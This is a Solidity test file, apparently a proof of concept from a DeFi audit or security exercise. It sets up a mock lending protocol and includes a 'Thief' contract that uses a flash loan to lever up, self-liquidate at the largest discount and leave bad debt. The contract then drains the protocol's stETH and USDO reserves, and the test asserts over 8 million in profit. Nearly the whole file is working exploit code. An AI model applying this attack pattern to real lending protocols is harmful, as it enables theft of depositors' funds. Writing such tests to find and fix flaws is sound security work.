// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.27;

import {Hall} from "../self-bad-debt/src/Hall.sol";
import {Token} from "../../shared/Erc20.sol";
import {Feed} from "../../shared/Feed.sol";
import {FlashLender} from "../../shared/FlashLender.sol";
import {IFlashBorrower} from "../../shared/IFlashBorrower.sol";

interface Vm {
    function startPrank(address) external;
    function stopPrank() external;
}

contract Thief is IFlashBorrower {
    SelfBadDebtTest private immutable t = SelfBadDebtTest(msg.sender);

    function run(uint256 stake) external {
        Token usdo = t.usdo();
        t.lender().flashLoan(this, address(usdo), stake - usdo.balanceOf(address(this)), "");
    }

    function onFlashLoan(address, address, uint256 amount, uint256 fee, bytes calldata) external returns (bytes32) {
        _attack(t.hall(), t.usdo(), t.steth());
        t.usdo().approve(msg.sender, amount + fee);
        return keccak256("ERC3156FlashBorrower.onFlashLoan");
    }

    function _attack(Hall hall, Token usdo, Token steth) private {
        usdo.approve(address(hall), type(uint256).max);
        uint256 stake = usdo.balanceOf(address(this));
        hall.deposit(0, usdo, stake);
        uint256 levered = stake * 9_500 / 502 - 1e6;
        hall.lever(0, usdo, levered);
        // What stays covers 80.01 % of the debt, just little enough for the largest discount.
        uint256 stays = levered * 10_002 / 10_000 * 8_001 / 9_500 - 1e6;
        hall.give(0, usdo, stake + levered - stays);
        hall.liquidate(address(this), 1, usdo, usdo, type(uint256).max);
        hall.unlever(1, usdo, hall.debtOf(hall.accountOf(address(this), 1), usdo));
        hall.borrow(1, steth, steth.balanceOf(address(hall)));
        hall.withdraw(1, usdo, usdo.balanceOf(address(hall)));
    }
}

contract SelfBadDebtTest {
    event log_named_uint(string key, uint256 value);

    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));
    address private constant ines = address(0x1100);
    address private constant jonas = address(0x2200);
    address private constant karim = address(0x3300);

    Token public usdo;
    Token public steth;
    FlashLender public lender;
    Hall public hall;

    function setUp() public {
        usdo = new Token("Open dollar", "USDO");
        steth = new Token("Staked ether", "STE");
        lender = new FlashLender(9);
        hall = new Hall();
        hall.list(usdo, new Feed(8, 1e8, address(this)), 8_500);
        hall.list(steth, new Feed(8, 2_000e8, address(this)), 8_000);
        usdo.mint(address(lender), 30_000_000 ether);
        _deposit(ines, 0, usdo, 6_500_000 ether);
        _deposit(jonas, 0, steth, 1_200 ether);
        _deposit(karim, 3, usdo, 300_000 ether);
        vm.startPrank(jonas);
        hall.borrow(0, usdo, 1_100_000 ether);
        vm.stopPrank();
        vm.startPrank(karim);
        hall.lever(3, usdo, 2_100_000 ether);
        vm.stopPrank();
    }

    function _deposit(address who, uint8 sub, Token token, uint256 amount) private {
        token.mint(who, amount);
        vm.startPrank(who);
        token.approve(address(hall), type(uint256).max);
        hall.deposit(sub, token, amount);
        vm.stopPrank();
    }

    function test_attack_pays() public {
        Thief thief = new Thief();
        usdo.mint(address(thief), 60_000 ether);
        thief.run(3_895_327.44 ether);
        uint256 wealth = usdo.balanceOf(address(thief)) + 2_000 * steth.balanceOf(address(thief));
        emit log_named_uint("profit in base units of usdo", wealth - 60_000 ether);
        require(wealth > 8_000_000 ether, "no profit");
        (uint256 debt, uint256 secured) = hall.health(address(thief));
        require(debt > secured + 1_000_000 ether, "no bad debt");
    }
}
